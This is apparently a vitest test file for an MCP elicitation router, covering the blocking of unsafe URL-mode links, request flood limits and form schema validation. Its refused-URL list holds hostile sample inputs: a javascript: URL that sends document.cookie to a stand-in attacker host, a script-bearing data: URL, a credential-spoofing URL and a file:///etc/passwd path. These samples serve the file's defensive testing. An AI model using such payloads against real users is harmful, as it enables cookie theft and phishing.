import { describe, expect, it } from 'vitest';
import { AskBroker } from '../../src/asks/ask-broker.js';
import { createElicitationRelay } from '../../src/elicitation/elicitation-relay.js';
import { parseElicitationSchema, validateElicitationContent } from '../../src/elicitation/elicitation-schema.js';
import { isLlmChatError } from '../../src/errors.js';
import { type ElicitationRequest, ElicitationRouter } from '../../src/mcp/elicitation-router.js';
import { memoryStorage } from '../../src/storage.js';
import type { ChatEvent } from '../../src/types.js';

function detailOf(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    return isLlmChatError(error) ? `${error.code} ${error.message}` : `${(error as Error).name} ${String(error)}`;
  }
  return 'no error';
}

describe('URL-mode elicitation: only URLs a page may open', () => {
  const refused = [
    'javascript:fetch("//evil.example/?c="+document.cookie)',
    'data:text/html,<script>alert(1)</script>',
    'http://bank.example/link?token=s3cret',
    'https://bank.example@evil.example/link',
    'file:///etc/passwd',
    'not a url',
  ];
  const allowed = [
    'https://bank.example/link?state=1',
    'http://localhost:3000/link',
    'http://127.0.0.1/x',
    'http://[::1]:8080/',
  ];

  it('declines a refused URL without asking the user, and logs its scheme and host only', async () => {
    const warnings: Array<[string, Record<string, unknown> | undefined]> = [];
    const router = new ElicitationRouter({ logger: { warn: (message, meta) => warnings.push([message, meta]) } });
    const asked: ElicitationRequest[] = [];
    router.enter('bank', async (request) => {
      asked.push(request);
      return { action: 'accept' };
    });
    for (const url of refused) {
      const params = { mode: 'url', message: 'Link your account', url, elicitationId: 'e-1' };
      expect(await router.dispatch('bank', params, new AbortController().signal)).toEqual({ action: 'decline' });
    }
    expect(asked).toEqual([]);
    expect(warnings).toHaveLength(refused.length);
    expect(warnings[0]?.[1]).toEqual({ server: 'bank', scheme: 'javascript:' });
    expect(warnings[2]?.[1]).toEqual({ server: 'bank', scheme: 'http:', host: 'bank.example' });
    expect(warnings[3]?.[1]).toEqual({ server: 'bank', scheme: 'https:', host: 'evil.example' });
    const logged = JSON.stringify(warnings);
    for (const secret of ['s3cret', 'cookie', 'alert', 'passwd', '/link']) expect(logged).not.toContain(secret);
  });

  it('passes https URLs, and http on loopback hosts, to the user', async () => {
    const router = new ElicitationRouter();
    const asked: string[] = [];
    router.enter('bank', async (request) => {
      asked.push(request.url ?? '');
      return { action: 'accept' };
    });
    for (const url of allowed) {
      const params = { mode: 'url', message: 'Link', url, elicitationId: 'e-1' };
      expect(await router.dispatch('bank', params, new AbortController().signal)).toEqual({ action: 'accept' });
    }
    expect(asked).toEqual(allowed);
  });

  it('gives a tool call at most two open questions: a server that floods it gets cancel at once for the rest', async () => {
    const router = new ElicitationRouter();
    let asked = 0;
    const answers: Array<() => void> = [];
    router.enter('bank', async () => {
      asked++;
      await new Promise<void>((resolve) => answers.push(resolve));
      return { action: 'accept', content: {} };
    });
    const form = { mode: 'form', message: 'Name?', requestedSchema: { type: 'object', properties: {} } };
    const results = Array.from({ length: 1000 }, () => router.dispatch('bank', form, new AbortController().signal));
    const cancelled = await Promise.all(results.slice(2));
    expect(cancelled.every((result) => result.action === 'cancel')).toBe(true);
    expect(asked).toBe(2);
    for (const answer of answers.splice(0)) answer();
    expect((await Promise.all(results.slice(0, 2))).map((result) => result.action)).toEqual(['accept', 'accept']);
    // Answered: the call may ask again.
    const again = router.dispatch('bank', form, new AbortController().signal);
    await new Promise((resolve) => setImmediate(resolve));
    expect(asked).toBe(3);
    for (const answer of answers.splice(0)) answer();
    expect((await again).action).toBe('accept');
  });

  it('the relay never puts a refused URL on the page either', async () => {
    const storage = memoryStorage();
    const relay = createElicitationRelay({
      broker: new AskBroker(storage.sessions, storage.bus),
      userId: 'ann',
      conversationId: 'default',
      canAsk: true,
      timeoutMs: 5_000,
    });
    const events: ChatEvent[] = [];
    const result = await relay.elicit(
      { server: 'bank', mode: 'url', message: 'Sign in', url: 'javascript:alert(1)' },
      { emit: (event) => events.push(event) },
    );
    expect(result).toEqual({ action: 'decline' });
    expect(events).toEqual([]);
    await storage.close();
  });
});

describe("elicitation forms: a server's field keywords are type-checked", () => {
  const form = (field: Record<string, unknown>) => ({ type: 'object', properties: { env: field } });

  it('refuses keywords of the wrong type, naming the keyword', () => {
    const cases: Array<[Record<string, unknown>, string]> = [
      [{ type: 'string', enum: 'staging-only' }, 'env.enum: must be a non-empty array of strings'],
      [{ type: 'string', enum: [] }, 'env.enum: must be a non-empty array of strings'],
      [{ type: 'string', enum: ['a', 1] }, 'env.enum: must be a non-empty array of strings'],
      [{ type: 'string', enum: [{}] }, 'env.enum: must be a non-empty array of strings'],
      [{ type: 'integer', enum: [1, 1.5] }, 'env.enum: must be a non-empty array of integers'],
      [{ type: 'boolean', enum: [true] }, 'env.enum: is not allowed on a boolean field'],
      [{ type: 'string', enum: ['a', 'b'], enumNames: 'A' }, 'env.enumNames: must be an array of strings, one per'],
      [{ type: 'string', enum: ['a', 'b'], enumNames: ['A'] }, 'env.enumNames: must be an array of strings, one per'],
      [{ type: 'string', enumNames: ['A'] }, 'env.enumNames: needs an enum'],
      [{ type: 'string', minLength: '3' }, 'env.minLength: must be a non-negative integer'],
      [{ type: 'string', maxLength: -1 }, 'env.maxLength: must be a non-negative integer'],
      [{ type: 'number', minimum: '0' }, 'env.minimum: must be a number'],
      [{ type: 'number', maximum: null }, 'env.maximum: must be a number'],
      [{ type: 'string', format: 'phone' }, 'env.format: must be one of email, uri, date, date-time'],
      [{ type: 'string', title: 7 }, 'env.title: must be a string'],
      [{ type: 'string', enum: ['a'], default: 'b' }, 'env.default: must be one of "a"'],
      [{ type: 'integer', default: 'x' }, 'env.default: expected a number'],
    ];
    for (const [field, detail] of cases) {
      expect(detailOf(() => parseElicitationSchema(form(field)))).toBe(
        `VALIDATION_FAILED requested_schema.properties.${detail}`.replace(/ one per$/, ' one per enum value'),
      );
    }
  });

  it('matches enum values exactly, and answers a value outside them with VALIDATION_FAILED', () => {
    const schema = parseElicitationSchema({
      ...form({ type: 'string', enum: ['staging', 'prod'], enumNames: ['Staging', 'Production'] }),
      required: ['env'],
    });
    expect(validateElicitationContent(schema, { env: 'prod' })).toEqual({ env: 'prod' });
    expect(detailOf(() => validateElicitationContent(schema, { env: 'g' }))).toBe(
      'VALIDATION_FAILED content.env: must be one of "staging", "prod"',
    );
    const numbers = parseElicitationSchema(form({ type: 'number', enum: [1, 2.5], minimum: 0, maximum: 3 }));
    expect(validateElicitationContent(numbers, { env: 2.5 })).toEqual({ env: 2.5 });
    expect(detailOf(() => validateElicitationContent(numbers, { env: 2 }))).toBe(
      'VALIDATION_FAILED content.env: must be one of 1, 2.5',
    );
  });
});
